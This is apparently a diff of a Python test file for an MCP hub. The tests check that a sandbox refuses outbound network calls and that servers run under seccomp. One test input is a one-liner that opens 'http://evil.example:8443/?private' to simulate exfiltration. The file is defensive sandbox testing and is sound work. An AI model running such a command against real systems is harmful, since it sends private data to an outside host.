@@ -27,7 +27,7 @@ from mcp_hub.upstreams.process.stdio import StdioConnection, StdioSpec
 from mcp_hub.upstreams.process.watchdog import Watchdog
 from tests.e2e.terminal import terminal
 from tests.fork_server import forked_command
-from tests.interaction.fronts import http_hub, stdio_hub
+from tests.interaction.fronts import http_hub, stdio_session
 from tests.unit.cli.command import SECONDS, command_env, hub
 from tests.unit.sandbox.confined import needs_sandbox, sandbox_of
 from tests.upstreams.child import until
@@ -266,14 +266,12 @@ async def test_refusals_are_in_the_answer_the_log_and_the_commands_of_a_running_
     code = "import urllib.request as r; r.urlopen('http://evil.example:8443/?private')"
     line = f'{sys.executable} -I -S -c "{code}"'
     async with http_hub((tmp_path / "servers.yaml").read_text(), tmp_path):
+        fix = 'set net: ["api.example.com", "evil.example:8443"]'
         commands = {
             ("call", "s_sh", "--arg", f"line={line}"): 'add "evil.example:8443" to net',
             ("sandbox", "s"): "refused in the running hub: 1 attempt, the latest at different targets:\n",
             ("status",): "  s: its sandbox refused 1 attempt. Run mcp-hub sandbox s",
-            (
-                "doctor",
-                "s",
-            ): '(the host is not in its rule); to allow it, set net: ["api.example.com", "evil.example:8443"]',
+            ("doctor", "s"): f"(the host is not in its rule); to allow it, {fix}",
             ("logs", "s"): "hub: sandbox_refused target=evil.example:8443 reason=the host is not in its rule total=1",
         }
         for command, text in commands.items():
@@ -291,8 +289,7 @@ async def test_hub_of_a_sandboxed_run_starts_its_servers_in_a_sandbox(
     """As `make sandboxed` runs the tests of idle stop, sessions, restart, reload and the end of hubs."""
     monkeypatch.setenv("SANDBOXED", mode)
     journal = tmp_path / "journal"
-    async with stdio_hub(servers_yaml({"a": argv(journal=journal)}), tmp_path) as client:
-        await client.initialize()
+    async with stdio_session(servers_yaml({"a": argv(journal=journal)}), tmp_path):
         await until(lambda: events(journal, "start"))
         process = Path("/proc") / str(events(journal, "start")[0]["pid"])
         assert "\nSeccomp:\t2\n" in (process / "status").read_text()
